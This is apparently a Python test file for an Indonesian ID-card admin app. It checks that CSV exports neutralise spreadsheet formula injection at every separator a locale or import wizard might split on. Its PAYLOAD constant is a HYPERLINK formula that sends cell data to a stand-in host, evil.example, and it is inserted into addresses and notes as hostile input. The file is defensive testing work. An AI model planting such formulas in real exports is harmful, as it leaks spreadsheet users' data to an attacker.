"""Hardening issue, item 4: no CSV cell can become a formula, whatever the
spreadsheet splits it at.

Excel in an Indonesian locale opens a comma-separated file splitting at ``;``
(its list separator); the import wizard splits at tabs; line breaks end rows.
So every piece of a cell between any of these separators that would start a
formula (after spaces and quotes) gets a ``'``, and a cell holding a separator
is quoted. Checked on the model exports and the report exports, for each
separator, by reading the file as each spreadsheet would.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st
from security.ektp_support import DESA_A, make_visit, sign_in, text

from ektp_admin.views.csv_export import csv_line, neutralise_cell

SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t", "CR": "\r", "LF": "\n", "CRLF": "\r\n"}
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
#: How the cell may start before the formula: right away, after spaces, in quotes.
LEADS = ["", " ", "  \u00a0", '"']


def pieces_a_spreadsheet_may_read(body: str) -> list[str]:
    """Every cell of the file read with ``,``, ``;`` and tab as separator, each
    cut once more at every separator (the worst any locale or wizard does)."""
    body = body.lstrip("\ufeff")
    out = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter):
            for cell in row:
                out.extend(re.split(r"[,;\t\r\n]", cell))
    return out


def runs_as_formula(piece: str) -> bool:
    stripped = piece.lstrip().lstrip('"').lstrip()
    if re.fullmatch(r"-\d+(\.\d+)?", stripped.rstrip().rstrip('"').rstrip()):
        return False  # a negative number (in quotes or not)
    return stripped[:1] in ("=", "+", "-", "@")


def assert_no_formula(body: str) -> None:
    dangerous = [p for p in pieces_a_spreadsheet_may_read(body) if runs_as_formula(p)]
    assert not dangerous, dangerous[:5]


# ---------------------------------------------------------------------- the cell itself


@pytest.mark.parametrize("separator", list(SEPARATORS.values()), ids=list(SEPARATORS))
@pytest.mark.parametrize("lead", LEADS, ids=["direct", "space", "spaces", "quote"])
def test_a_formula_after_any_separator_is_neutralised(separator: str, lead: str) -> None:
    value = f"JL. MERDEKA 1{separator}{lead}{PAYLOAD}"
    cell = neutralise_cell(value)
    assert_no_formula(csv_line(["x", cell, "y"]))
    assert cell.replace("'", "") == value.replace("'", "")  # nothing else changes


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("\t=1+1", "'\t'=1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("+6281234567890", "'+6281234567890"),  # a phone still reads as the phone
    ("-", "'-"),
    ("-5", "-5"),  # a negative number stays a number
    ("-2.5", "-2.5"),
    ("-2+3", "'-2+3"),
    (-5, "-5"),
    (12, "12"),
    ("SITI AMINAH", "SITI AMINAH"),
    ("RT 001; RW 002", "RT 001; RW 002"),
    (None, ""),
])
def test_cells(value: Any, expected: str) -> None:
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize("cell, line", [
    ("a;b", '"a;b"\r\n'),
    ("a\tb", '"a\tb"\r\n'),
    ("a,b", '"a,b"\r\n'),
    ('say "hi"', '"say ""hi"""\r\n'),
    ("a\nb", '"a\nb"\r\n'),
    ("plain", "plain\r\n"),
])
def test_a_cell_with_any_separator_is_quoted(cell: str, line: str) -> None:
    assert csv_line([cell]) == line


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@ \t\r\n,;\"'xA1.")), max_size=12), min_size=2,
                max_size=4))
def test_no_text_becomes_a_formula_in_any_spreadsheet(cells: list[str]) -> None:
    line = csv_line([neutralise_cell(c) for c in cells])
    assert_no_formula(line)
    # and the file still reads back as the cells, a ' before each neutralised piece
    [row] = list(csv.reader(io.StringIO(line, newline="")))
    assert [c.replace("'", "") for c in row] == [c.replace("'", "") for c in cells]


# ---------------------------------------------------------------------- the exports


@pytest.fixture
def hostile_residents(make_resident: Any) -> list[int]:
    ids = []
    for number, (name, separator) in enumerate(SEPARATORS.items()):
        ids.append(make_resident(
            f"WARGA {name.upper()}", birth_date=dt.date(1970, 1, 1 + number),
            address=f"JL. MERDEKA {number}{separator}{PAYLOAD}",
            phone="+6281234567890", rt="1", rw="2",
        ))
    return ids


def test_the_residents_export_neutralises_every_separator(app: Any, client: Any, hostile_residents: Any) -> None:
    sign_in(client, "admin")
    body = text(client.get("/admin/residents/export/csv/"))
    assert_no_formula(body)
    *rows, trailer = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
    assert trailer == [f"# complete: {len(rows) - 1} rows"]
    header = rows[0]
    addresses = sorted(r[header.index("Address")] for r in rows[1:])
    assert addresses[0] == f"JL. MERDEKA 0,'{PAYLOAD}"  # comma
    assert all(PAYLOAD in a and f"'{PAYLOAD}" in a for a in addresses)
    assert {r[header.index("Phone")] for r in rows[1:]} == {"'+6281234567890"}


def test_the_outstanding_export_neutralises_every_separator(app: Any, client: Any, hostile_residents: Any) -> None:
    sign_in(client, "clerk")
    body = text(client.get(f"/admin/outstanding/{DESA_A}/export.csv"))
    assert_no_formula(body)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
    assert len(rows) == 1 + len(SEPARATORS) + 1, "header, rows, trailer"
    assert rows[-1] == [f"# complete: {len(SEPARATORS)} rows"]


def test_the_visits_export_neutralises_notes_and_addresses(app: Any, client: Any) -> None:
    for separator in SEPARATORS.values():
        make_visit(app, kind="home", host_address=f"RUMAH{separator} {PAYLOAD}", notes=f"catatan{separator}@SUM(A1)")
    sign_in(client, "admin")
    body = text(client.get("/admin/visits/export/csv/"))
    assert_no_formula(body)
    cells = [c for row in csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")) for c in row]
    assert sum(c.endswith(f"' {PAYLOAD}") for c in cells) == len(SEPARATORS)
    assert sum(c.endswith("'@SUM(A1)") for c in cells) == len(SEPARATORS)
